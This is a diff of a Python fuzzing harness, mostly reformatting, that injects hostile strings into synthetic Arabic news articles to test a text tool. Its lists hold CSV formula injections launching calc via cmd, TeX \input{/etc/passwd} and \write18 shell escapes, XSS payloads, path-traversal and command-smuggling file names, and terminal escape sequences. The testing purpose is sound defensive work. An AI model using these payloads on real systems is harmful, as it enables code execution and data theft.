@@ -70,58 +70,307 @@ def _article(rng: random.Random, n: int) -> Row:
 # -- what is put into them -------------------------------------------------------------------------
 
 FORMULAS = [
-    "=1+1", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1",
-    "\u00a0=1+1", "\n=1+1", "\ufeff=1+1", "\u200f=1+1", "\u202e=1+1", "\u200b@SUM(1)", "＝1+1",
-    "＋1+1", "－1+1", "＠SUM(1)", "- قال+cmd|'/C calc'!A0", "a;=1+1", "خبر;@SUM(1);خبر", "خبر\t=1+1",
-    '"=1+1', "'=1+1", "خبر\n=1+1", 'a";=1+1;"', "=HYPERLINK(\"http://e.invalid/?\"&A1)", "%0A=1+1",
-    "-قال الوزير", "= قال", "خبر؛=1", "﹦1+1", "⁼1+1", "−1+1|A0", "=\u200b1+1", "\u061c=1", "\u00ad=1",
-]  # fmt: skip
-BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00", "\x1c", "\x1a", "\ufeff"]
+    "=1+1",
+    "+1+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\n=1+1",
+    "\ufeff=1+1",
+    "\u200f=1+1",
+    "\u202e=1+1",
+    "\u200b@SUM(1)",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "- قال+cmd|'/C calc'!A0",
+    "a;=1+1",
+    "خبر;@SUM(1);خبر",
+    "خبر\t=1+1",
+    '"=1+1',
+    "'=1+1",
+    "خبر\n=1+1",
+    'a";=1+1;"',
+    '=HYPERLINK("http://e.invalid/?"&A1)',
+    "%0A=1+1",
+    "-قال الوزير",
+    "= قال",
+    "خبر؛=1",
+    "﹦1+1",
+    "⁼1+1",
+    "−1+1|A0",
+    "=\u200b1+1",
+    "\u061c=1",
+    "\u00ad=1",
+]
+BREAKS = [
+    "\r",
+    "\n",
+    "\r\n",
+    "\x0b",
+    "\x0c",
+    "\x85",
+    "\u2028",
+    "\u2029",
+    "\x00",
+    "\x1c",
+    "\x1a",
+    "\ufeff",
+]
 ESCAPES = [
-    "\x1b[31mخبر\x1b[0m", "\x1b]0;خبر\x07", "\x1b]8;;http://e.invalid\x1b\\خبر\x1b]8;;\x1b\\", "\x07\x08",
-    "\x9b31mخبر", "\x1bP+q\x1b\\", "\x1b[2J\x1b[H", "\x7f\x08\x08", "\x1b[6n", "\x90\x9c",
-]  # fmt: skip
+    "\x1b[31mخبر\x1b[0m",
+    "\x1b]0;خبر\x07",
+    "\x1b]8;;http://e.invalid\x1b\\خبر\x1b]8;;\x1b\\",
+    "\x07\x08",
+    "\x9b31mخبر",
+    "\x1bP+q\x1b\\",
+    "\x1b[2J\x1b[H",
+    "\x7f\x08\x08",
+    "\x1b[6n",
+    "\x90\x9c",
+]
 TURNS = [
-    "\u202eعكس", "نهر\u202d12", "\u202aab", "\u202b\u202b\u202bسد", "\u2067سد", "\u2066a", "\u2068سد",
-    "سد\u2069\u2069", "\u202c\u202cسد", "\u202egpj.exe", "\u2066\u202e\u2067", "\u061c\u200e\u200f",
-]  # fmt: skip
+    "\u202eعكس",
+    "نهر\u202d12",
+    "\u202aab",
+    "\u202b\u202b\u202bسد",
+    "\u2067سد",
+    "\u2066a",
+    "\u2068سد",
+    "سد\u2069\u2069",
+    "\u202c\u202cسد",
+    "\u202egpj.exe",
+    "\u2066\u202e\u2067",
+    "\u061c\u200e\u200f",
+]
 MATH = [
-    r"$\frac{$", "$x$", r"\$", "$", "$$", "$$$", r"$\undefined$", "_", "_nolegend_", "__", "_خبر", "%",
-    r"$\mathdefault{x}$", "^", "$_$", r"$\sqrt{$ و $", "$^$", r"\(x\)", r"\[x\]", "{", "}", "{0}", "%s",
-    "$\u202e$", "$خبر$ و $", r"$\left($", "a$b$c$d", "$\\int_0^1$ نهر",
-]  # fmt: skip
-LETTERS = ["ş", "ř", "ễ", "Š", "\u2011", "ñ", "Å", "ǆ", "ﬁ", "\u0130stanbul", "Đ", "ơ", "ử", "ț", "e\u0301"]
+    r"$\frac{$",
+    "$x$",
+    r"\$",
+    "$",
+    "$$",
+    "$$$",
+    r"$\undefined$",
+    "_",
+    "_nolegend_",
+    "__",
+    "_خبر",
+    "%",
+    r"$\mathdefault{x}$",
+    "^",
+    "$_$",
+    r"$\sqrt{$ و $",
+    "$^$",
+    r"\(x\)",
+    r"\[x\]",
+    "{",
+    "}",
+    "{0}",
+    "%s",
+    "$\u202e$",
+    "$خبر$ و $",
+    r"$\left($",
+    "a$b$c$d",
+    "$\\int_0^1$ نهر",
+]
+LETTERS = [
+    "ş",
+    "ř",
+    "ễ",
+    "Š",
+    "\u2011",
+    "ñ",
+    "Å",
+    "ǆ",
+    "ﬁ",
+    "\u0130stanbul",
+    "Đ",
+    "ơ",
+    "ử",
+    "ț",
+    "e\u0301",
+]
 TEX = [
-    r"\input{/etc/passwd}", r"^^5cinput{/etc/passwd}", r"\write18{id}", "[3pt]", "*", "[", "]", r"\\",
-    r"\end{longtable}", "% خبر", "a & b", "#1", "~", "``", "''", '"', r"\catcode`\%=12", "{", "}", "}{",
-    r"\verb|x|", "^^M", "\\", "---", "<<", r"\csname input\endcsname", "[\\input{a}]", "*[3pt]",
-]  # fmt: skip
+    r"\input{/etc/passwd}",
+    r"^^5cinput{/etc/passwd}",
+    r"\write18{id}",
+    "[3pt]",
+    "*",
+    "[",
+    "]",
+    r"\\",
+    r"\end{longtable}",
+    "% خبر",
+    "a & b",
+    "#1",
+    "~",
+    "``",
+    "''",
+    '"',
+    r"\catcode`\%=12",
+    "{",
+    "}",
+    "}{",
+    r"\verb|x|",
+    "^^M",
+    "\\",
+    "---",
+    "<<",
+    r"\csname input\endcsname",
+    "[\\input{a}]",
+    "*[3pt]",
+]
 MARKUP = [
-    "<script>window.hacked=1</script>", "<img src=http://e.invalid/a.png onerror=window.hacked=1>",
-    "</script><script>window.hacked=1</script>", "javascript:window.hacked=1", "{{7*7}}", "{% raw %}",
-    "<svg onload=window.hacked=1>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#x202e;", "<b",
-    '"><img src=x onerror=window.hacked=1>', "' onmouseover='window.hacked=1", "</title><b>",
-    "</textarea>", "<iframe srcdoc='<script>parent.hacked=1</script>'>", "<link rel=stylesheet href=//e.invalid>",
-    "data:text/html,<script>window.hacked=1</script>", "<style>*{background:url(http://e.invalid)}</style>",
-    "<meta http-equiv=refresh content='0;url=http://e.invalid'>", "`${window.hacked=1}`", "\\u003cscript>",
-]  # fmt: skip
-XML = ["\x01", "\x1f", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "_x0041_", "_x000D_", "<a>&amp;", "]]>", "\x0e"]
+    "<script>window.hacked=1</script>",
+    "<img src=http://e.invalid/a.png onerror=window.hacked=1>",
+    "</script><script>window.hacked=1</script>",
+    "javascript:window.hacked=1",
+    "{{7*7}}",
+    "{% raw %}",
+    "<svg onload=window.hacked=1>",
+    "<!--",
+    "-->",
+    "]]>",
+    "<![CDATA[",
+    "&lt;b&gt;",
+    "&#x202e;",
+    "<b",
+    '"><img src=x onerror=window.hacked=1>',
+    "' onmouseover='window.hacked=1",
+    "</title><b>",
+    "</textarea>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
+    "<link rel=stylesheet href=//e.invalid>",
+    "data:text/html,<script>window.hacked=1</script>",
+    "<style>*{background:url(http://e.invalid)}</style>",
+    "<meta http-equiv=refresh content='0;url=http://e.invalid'>",
+    "`${window.hacked=1}`",
+    "\\u003cscript>",
+]
+XML = [
+    "\x01",
+    "\x1f",
+    "\ufffe",
+    "\uffff",
+    "\ufdd0",
+    "\U0001fffe",
+    "_x0041_",
+    "_x000D_",
+    "<a>&amp;",
+    "]]>",
+    "\x0e",
+]
 IDS = [
-    "../../canary", "/etc/passwd", "C:\\Windows\\x", "..\\..\\canary", "CON", "NUL", "aux", "com1.txt", "a" * 300,
-    "ن" * 300, "Abc", "abc", "ABC", "e\u0301", "\u00e9", "~", "~/x", ".", "..", "a/../b", "a b", "a?b", "a*b",
-    "a|b", "a:b", '"', "<a>", "a\tb", "a\nb", "x.", " x", "index.html", "\u202ea", "%2e%2e%2f", "-rf", "--out",
-    "$HOME", "`id`", "=1+1", "0", "nan", "None", "1e5", "a\u200b", "a\ufeff", "__proto__", "constructor",
-    "toString", "id", "\x1b[31m", "#", "?", "&", "'", "file:///etc/passwd", "//e.invalid/x", "a;=1",
-]  # fmt: skip
+    "../../canary",
+    "/etc/passwd",
+    "C:\\Windows\\x",
+    "..\\..\\canary",
+    "CON",
+    "NUL",
+    "aux",
+    "com1.txt",
+    "a" * 300,
+    "ن" * 300,
+    "Abc",
+    "abc",
+    "ABC",
+    "e\u0301",
+    "\u00e9",
+    "~",
+    "~/x",
+    ".",
+    "..",
+    "a/../b",
+    "a b",
+    "a?b",
+    "a*b",
+    "a|b",
+    "a:b",
+    '"',
+    "<a>",
+    "a\tb",
+    "a\nb",
+    "x.",
+    " x",
+    "index.html",
+    "\u202ea",
+    "%2e%2e%2f",
+    "-rf",
+    "--out",
+    "$HOME",
+    "`id`",
+    "=1+1",
+    "0",
+    "nan",
+    "None",
+    "1e5",
+    "a\u200b",
+    "a\ufeff",
+    "__proto__",
+    "constructor",
+    "toString",
+    "id",
+    "\x1b[31m",
+    "#",
+    "?",
+    "&",
+    "'",
+    "file:///etc/passwd",
+    "//e.invalid/x",
+    "a;=1",
+]
 TITLES = [
-    "", " ", "\u00a0\u2003", "َُِّْ", "ـــ", "\u200b", "." * 50, "ن" * 10_000, "نهر " * 2_500, "a" * 10_000, "🌊" * 500,
-    "َ" * 5_000, "ن" + "َ" * 3_000, "\u200f" * 100, "،؛؟", "١٢٣", "1", "nan", "None", "ﷺ", "\u0301", "﷽" * 60,
-    "\u0600\u0601", "𞤀𞤣", "ܣܘܪ", "中文标题", "हिन्दी", "ไทย", "\ue000\uf8ff", "\U000e0001\U000e0041", "ا\u200d" * 200,
-]  # fmt: skip
+    "",
+    " ",
+    "\u00a0\u2003",
+    "َُِّْ",
+    "ـــ",
+    "\u200b",
+    "." * 50,
+    "ن" * 10_000,
+    "نهر " * 2_500,
+    "a" * 10_000,
+    "🌊" * 500,
+    "َ" * 5_000,
+    "ن" + "َ" * 3_000,
+    "\u200f" * 100,
+    "،؛؟",
+    "١٢٣",
+    "1",
+    "nan",
+    "None",
+    "ﷺ",
+    "\u0301",
+    "﷽" * 60,
+    "\u0600\u0601",
+    "𞤀𞤣",
+    "ܣܘܪ",
+    "中文标题",
+    "हिन्दी",
+    "ไทย",
+    "\ue000\uf8ff",
+    "\U000e0001\U000e0041",
+    "ا\u200d" * 200,
+]
 HALVES = ["\ud800", "\udc00", "a\udfffb", "\ud83d", "نهر\udcff"]
 EVERYTHING = [
-    *FORMULAS, *BREAKS, *ESCAPES, *TURNS, *MATH, *LETTERS, *TEX, *MARKUP, *XML, *IDS, *TITLES, *HALVES,
-]  # fmt: skip
+    *FORMULAS,
+    *BREAKS,
+    *ESCAPES,
+    *TURNS,
+    *MATH,
+    *LETTERS,
+    *TEX,
+    *MARKUP,
+    *XML,
+    *IDS,
+    *TITLES,
+    *HALVES,
+]
 
 _FIELDS = ("title", "outlet", "label", "author", "section", "url", "date", "id")
 
@@ -130,7 +379,13 @@ def _some(rng: random.Random, stuff: Sequence[str], text: str) -> str:
     """Put some of it before, after, in the middle of a text, or in its place."""
     piece = rng.choice(stuff)
     at = rng.randrange(len(text) + 1)
-    ways = [piece, piece + text, f"{piece} {text}", f"{text} {piece}", text[:at] + piece + text[at:]]
+    ways = [
+        piece,
+        piece + text,
+        f"{piece} {text}",
+        f"{text} {piece}",
+        text[:at] + piece + text[at:],
+    ]
     return rng.choice(ways)
 
 
@@ -145,8 +400,13 @@ def _fill(rng: random.Random, stuff: Sequence[str], rows: list[Row], fields: Seq
             row["outlet"] = rng.choice(outlets)
         if "text" in fields:
             lines = [_some(rng, stuff, line) for line in str(row["text"]).split("\n")]
-            who, what = _some(rng, stuff, "وزير المياه"), _some(rng, stuff, "النهر يفيض على السد كل عام")
-            row["text"] = "\n".join([*lines, _said(rng, who, what), _said(rng, rng.choice(_WHO), what)])
+            who, what = (
+                _some(rng, stuff, "وزير المياه"),
+                _some(rng, stuff, "النهر يفيض على السد كل عام"),
+            )
+            row["text"] = "\n".join(
+                [*lines, _said(rng, who, what), _said(rng, rng.choice(_WHO), what)]
+            )
 
 
 def articles_of(rng: random.Random, stuff: Sequence[str], fields: Sequence[str]) -> list[Row]:
@@ -196,12 +456,16 @@ def _as_files(folder: Path, rows: list[Row]) -> tuple[Path, list[str]]:
         name = _file_name(re.sub("[\ud800-\udfff]", "", str(row["id"])), n)
         text = f"{row['title']}\n{row['text']}".encode("utf-8", "replace")
         (path / name).write_bytes(text)
-        known.append({"id": name.removesuffix(".txt"), "outlet": row["outlet"], "date": row["date"]})
+        known.append(
+            {"id": name.removesuffix(".txt"), "outlet": row["outlet"], "date": row["date"]}
+        )
     table = folder / "known.csv"
     with table.open("w", encoding="utf-8", errors="replace", newline="") as file:
         writer = csv.DictWriter(file, ["id", "outlet", "date"])
         writer.writeheader()
         writer.writerows(known)
+    if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", table.read_text("utf-8")):
+        return path, []  # no table of text
     return path, ["--metadata", str(table)]
 
 
@@ -331,7 +595,10 @@ def faults_of(
     if "Traceback" in said:
         yield "crash", said.strip().splitlines()[-1][:300]
     if done.returncode != 0:
-        yield "exit", f"status {done.returncode}: {said.strip().splitlines()[-1][:300] if said else ''}"
+        yield (
+            "exit",
+            f"status {done.returncode}: {said.strip().splitlines()[-1][:300] if said else ''}",
+        )
     for line in said.split("\n"):
         if found := re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028\u2029]", line):
             yield "lost", f"U+{ord(found[0]):04X} on the terminal: {line[:120]!r}"
@@ -370,7 +637,7 @@ def _seen(browser: object, page: Path) -> Iterator[str]:
         try:
             button.click(timeout=500)
             opened.keyboard.press("Escape")
-        except Exception:  # noqa: S112 - hidden, or covered by what was opened
+        except Exception:
             continue
     if opened.evaluate("typeof window.hacked") != "undefined":
         found.append("a script of the corpus ran")
@@ -405,7 +672,9 @@ def main(argv: Sequence[str] | None = None) -> int:
                 )
             tally["tried"] += 1
             tally.update({sort for sort, _ in found})
-            print(f"{kind} {seed}: {len(found)} faults, {time.monotonic() - start:.0f} s", flush=True)
+            print(
+                f"{kind} {seed}: {len(found)} faults, {time.monotonic() - start:.0f} s", flush=True
+            )
             for sort, told in found[:25]:
                 print(f"   {sort}: {told.encode('unicode_escape').decode()}", flush=True)
     head = ("tried", "crash", "hang", "exit", "lost")
@@ -424,7 +693,7 @@ def _browser() -> object:
         for way in ({}, {"executable_path": "/usr/bin/chromium"}):
             try:
                 return playwright.chromium.launch(**way)
-            except Exception:  # noqa: S112 - the next one, or none
+            except Exception:
                 continue
     except ImportError:
         pass
